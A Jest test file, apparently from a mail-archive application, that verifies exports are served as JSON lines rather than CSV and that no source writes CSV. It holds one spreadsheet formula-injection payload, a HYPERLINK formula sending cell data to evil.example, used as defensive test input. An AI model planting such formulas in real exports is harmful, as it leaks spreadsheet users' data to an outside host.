import { readFileSync } from 'node:fs'
import { expect, test } from '@jest/globals'
import { heldEntry } from '../support/entries.ts'
import { webOf } from '../support/web.ts'
import { pathOf, sources } from './regexes.ts'

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'

test('an export is JSON lines and mbox: no program takes a cell of it for a formula', async () => {
  const entry = heldEntry({
    subject: FORMULA,
    author: { name: `+${FORMULA}`, address: null, platform: null },
  })
  const { get } = webOf({ entries: [entry] })
  const records = await get('/data/records.jsonl')
  expect(records.headers.get('content-type')).not.toMatch(/csv|excel|tab-separated/)
  expect(records.headers.get('content-disposition')).toMatch(/attachment; filename="?[\w-]+\.jsonl"?/)
  const lines = (await records.text()).trim().split('\n')
  expect(lines.map((line) => typeof JSON.parse(line))).not.toContain('string')
  expect(lines.every((line) => line.startsWith('{'))).toBe(true)
  // Whoever adds a table for spreadsheets has to think of this, and of the row in docs/threat-model.md.
  const writers = sources().filter((file) => !file.startsWith('lib/adapters/mailbox/'))
  const written = writers.filter((file) => /text\/csv|\.csv['"`]/.test(readFileSync(pathOf(file), 'utf8')))
  expect(written).toEqual([])
})
